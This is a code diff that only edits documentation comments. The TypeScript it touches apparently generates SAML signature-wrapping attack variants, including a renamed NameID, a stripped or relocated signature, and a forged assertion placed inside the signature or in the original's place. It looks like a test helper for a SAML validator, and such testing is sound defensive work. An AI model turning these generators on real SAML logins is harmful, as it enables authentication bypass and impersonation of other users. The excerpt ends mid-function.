@@ -21,10 +21,10 @@ const NAME_ID = /(<saml:NameID[^>]*>)[^<]+/g;
 
 export const first = (pattern: RegExp, text: string) => pattern.exec(text)?.[0] ?? '';
 
-/** The same document about somebody else; what was signed is not about them. */
+/** Writes the same document about somebody else; what was signed is not about them. */
 export const renamed = (document: string) => document.replace(NAME_ID, `$1${EVIL}`);
 
-/** The same element about somebody else, without the signature and under another id. */
+/** Writes the same element about somebody else, without the signature and under another id. */
 const forged = (element: string, id = '_evil') =>
   renamed(element.replace(SIGNATURE, '')).replace(/ID="[^"]+"/, `ID="${id}"`);
 
@@ -33,14 +33,14 @@ const inPlace = (make: (assertion: string) => string) => (response: string) => r
 
 const before = (tag: string, added: string) => (response: string) => response.replace(tag, () => `${added}${tag}`);
 
-/** The forged assertion with the signature of the original, which is put somewhere in that signature. */
+/** Puts the forged assertion under the signature of the original, which is put somewhere in that signature. */
 function inSignature(assertion: string, wrap: (original: string) => string): string {
   const original = wrap(assertion.replace(SIGNATURE, ''));
   const wrapped = first(SIGNATURE, assertion).replace('</ds:Signature>', () => `${original}</ds:Signature>`);
   return forged(assertion).replace('</saml:Issuer>', () => `</saml:Issuer>${wrapped}`);
 }
 
-/** A forged assertion in its place, and the signed one in an element of the response. */
+/** Puts a forged assertion in its place, and the signed one in an element of the response. */
 const movedInto = (element: string) => (response: string) => {
   const signed = first(ASSERTION, response);
   return before(
